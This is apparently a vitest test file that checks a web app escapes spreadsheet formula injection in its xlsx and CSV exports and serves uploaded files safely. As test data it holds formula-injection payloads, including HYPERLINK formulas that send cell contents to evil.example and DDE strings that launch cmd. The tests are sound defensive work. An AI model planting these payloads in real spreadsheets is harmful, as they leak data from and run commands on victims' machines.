import fs from 'node:fs';
import path from 'node:path';
import { buffer } from 'node:stream/consumers';
import ExcelJS from 'exceljs';
import { sql } from 'drizzle-orm';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreNeutralised } from '../src/lib/formula-guard';
import { workbookBuffer, xlsxStream } from '../src/lib/xlsx-writer';
import { uploadFile } from './data-upload-support';
import { api, buildTestApp, login, TENANT_A, type TestApp } from './helpers';
import { PDF, createMeeting, meetingBody, multipart, repChoices, upload } from './meeting-fixtures';
import { rowsOf } from '../src/db/rows';

const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000005000157c2b0a10000000049454e44ae426082', 'hex');
const FORMULAS = ['=HYPERLINK("http://evil.example","Click")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR'];
const SERVER_SRC = path.resolve(import.meta.dirname, '../src');
/** What writes a workbook or CSV: exceljs's writers, a zip writer, a CSV answer. */
const WRITERS = /\.(xlsx|csv)\s*\.\s*(write|writeBuffer|writeFile)\s*\(|WorkbookWriter|from 'yazl'|text\/csv|\.csv\b['"`]/;

describe('exports cannot carry formulas', () => {
  it('neutralises text that a spreadsheet would run, and leaves other text alone', () => {
    for (const text of FORMULAS) expect(neutraliseFormula(text)).toBe(`'${text}`);
    for (const text of ['张三', 'a=b', '1-2', '', "'quoted"]) expect(neutraliseFormula(text)).toBe(text);
    for (const text of FORMULAS) expect(restoreNeutralised(neutraliseFormula(text))).toBe(text);
  });

  it('writes user text as inert text in every xlsx the writer produces', async () => {
    const file = await buffer(xlsxStream({ columns: [{ header: 'Remark' }, { header: 'Count' }], rows: FORMULAS.map((text, i) => [text, -i - 1]) }));
    const rows = (await readSheet(file)) as unknown[][];
    expect(rows.slice(1).map((row) => row[0])).toEqual(FORMULAS.map((text) => `'${text}`));
    // Numbers stay numbers: only text is neutralised.
    expect(rows.slice(1).map((row) => row[1])).toEqual(FORMULAS.map((_, i) => -i - 1));
    expect(file.toString('latin1')).not.toContain('<f>');
  });

  it('guards every cell of a workbook built with exceljs: text, rich text, hyperlinks and formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('s');
    // A CR comes back from the XML as a line feed: the tab and CR starts are checked on the streaming writer above.
    const texts = FORMULAS.slice(0, 5);
    sheet.addRow([...texts, 42, 'plain']);
    sheet.addRow([
      { richText: [{ text: '=cmd|' }, { text: "' /C calc'!A0" }] },
      { text: '@SUM(A1)', hyperlink: 'https://example.com' },
      { formula: 'HYPERLINK("http://evil.example")' },
    ]);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load((await workbookBuffer(workbook)) as unknown as ArrayBuffer);
    const [first, second] = [read.worksheets[0]!.getRow(1), read.worksheets[0]!.getRow(2)];
    expect((first.values as unknown[]).slice(1)).toEqual([...texts.map((text) => `'${text}`), 42, 'plain']);
    expect(second.getCell(1).text).toBe(`'=cmd|' /C calc'!A0`);
    expect(second.getCell(2).text).toBe("'@SUM(A1)");
    expect(second.getCell(3).value).toBe(`'=HYPERLINK("http://evil.example")`);
  });

  it('has one writer: no file but lib/xlsx-writer.ts writes a workbook or a CSV', () => {
    const writers = fs
      .readdirSync(SERVER_SRC, { recursive: true, encoding: 'utf8' })
      .filter((name) => /\.ts$/.test(name) && !/\.test\.ts$/.test(name) && name !== path.join('lib', 'xlsx-writer.ts'))
      .filter((name) => WRITERS.test(fs.readFileSync(path.join(SERVER_SRC, name), 'utf8')));
    expect(writers).toEqual([]);
  });
});

describe('exports and stored files over HTTP', () => {
  let t: TestApp;
  let rep: string;
  let manager: string;
  const send = (token: string, url: string, form: { payload: Buffer; contentType: string }) =>
    t.app.inject({ method: 'POST', url, payload: form.payload, headers: { host: TENANT_A, authorization: `Bearer ${token}`, 'content-type': form.contentType } });

  beforeAll(async () => {
    t = await buildTestApp();
    rep = (await login(t.app, 'rep')).access_token;
    manager = (await login(t.app, 'manager')).access_token;
  });
  afterAll(() => t?.close());

  it('neutralises a formula a rep typed as a remark in the verification download', async () => {
    const doctorId = Number(
      rowsOf<{ id: number }>(
        await t.app.db.execute(sql`select d.id from doctor d join doctor_assignment a on a.doctor_id = d.id join organization o on o.id = a.org_id
      where o.code = 'T-SH1-1' and d.tenant_id = 1 order by d.id limit 1`),
      )[0]!.id,
    );
    const remark = '=HYPERLINK("http://evil.example/?"&A1,"Details")';
    const draft = await api(t.app, rep, { method: 'POST', url: '/prod-api/doctor/verify/save', payload: { doctorId, remark } });
    expect(draft.statusCode).toBe(200);
    const download = await api(t.app, manager, { url: '/prod-api/doctor/verify/download?size=1000', lang: 'en' });
    expect(download.statusCode).toBe(200);
    const rows = (await readSheet(download.rawPayload)) as unknown[][];
    const remarkColumn = rows[0]!.indexOf('Remark');
    const cells = rows.slice(1).map((row) => row[remarkColumn]);
    expect(cells).toContain(`'${remark}`);
    expect(cells).not.toContain(remark);
  });

  it('neutralises the formulas of rejected rows in the rejected-rows workbook of a data upload', async () => {
    const admin = (await login(t.app, 'admin')).access_token;
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "+1+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"];
    const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
    const csv = ['Hospital code,Product code,Month,Units,Amount (CNY)', ...hostile.map((text) => `${quoted(text)},P-NONE,2019-03,5,10`)].join('\r\n');
    const upload = (await uploadFile(t.app, admin, 1, { name: 'sales.csv', content: Buffer.from(csv) }, { lang: 'en' })).json().result;
    expect(upload).toMatchObject({ status: 'VALIDATED', errorRows: 3 });
    const rejected = await api(t.app, admin, { url: `/prod-api/data/upload/${upload.id}/rejected`, lang: 'en' });
    expect(rejected.statusCode).toBe(200);
    const rows = (await readSheet(rejected.rawPayload)) as unknown[][];
    expect(rows.slice(1).map((row) => row[0])).toEqual(hostile.map((text) => `'${text}`));
    // The file a user fixes and uploads again reads as typed.
    const again = (await uploadFile(t.app, admin, 1, { name: 'sales-again.xlsx', content: rejected.rawPayload }, { lang: 'en' })).json().result;
    expect(again.errors.filter((e: { column: string }) => e.column === 'Hospital code').map((e: { reason: string }) => e.reason)).toEqual(
      hostile.map((text) => `No such code in the system: ${text}`),
    );
  });

  it('serves stored files with nosniff, and anything but a checked image as an attachment', async () => {
    const doctorId = Number(
      rowsOf<{ id: number }>(
        await t.app.db.execute(sql`select d.id from doctor d join doctor_assignment a on a.doctor_id = d.id join organization o on o.id = a.org_id
      where o.code = 'T-SH1-1' and d.tenant_id = 1 order by d.id desc limit 1`),
      )[0]!.id,
    );
    const draft = (await api(t.app, rep, { method: 'POST', url: '/prod-api/doctor/verify/save', payload: { doctorId } })).json().result;
    for (const [name, content] of [
      ['licence.png', PNG],
      ['licence.pdf', PDF],
    ] as const) {
      expect((await send(rep, `/prod-api/doctor/verify/upload/certificate?id=${draft.id}`, multipart({}, { name, content }))).statusCode).toBe(200);
    }
    const listed = (await api(t.app, rep, { url: `/prod-api/doctor/verify/find/certificate/${draft.id}` })).json().result as Array<{ url: string; contentType: string }>;
    const image = await api(t.app, rep, { url: listed.find((c) => c.contentType === 'image/png')!.url });
    expect(image.headers['x-content-type-options']).toBe('nosniff');
    expect(image.headers['content-disposition']).toMatch(/^inline;/);
    const pdf = await api(t.app, rep, { url: listed.find((c) => c.contentType === 'application/pdf')!.url });
    expect(pdf.headers['x-content-type-options']).toBe('nosniff');
    expect(pdf.headers['content-disposition']).toMatch(/^attachment;/);
    expect(pdf.headers['content-security-policy']).toContain('sandbox');

    const meetingId = await createMeeting(t, rep, meetingBody(await repChoices(t, rep)));
    const stored = (await upload(t, rep, meetingId, { kind: 'ATTACHMENT' }, { name: 'agenda.pdf', content: PDF })).json().result;
    const file = await api(t.app, rep, { url: `/prod-api/meeting/${meetingId}/file/${stored.id}` });
    expect(file.statusCode).toBe(200);
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-disposition']).toMatch(/^attachment;/);
  });
});
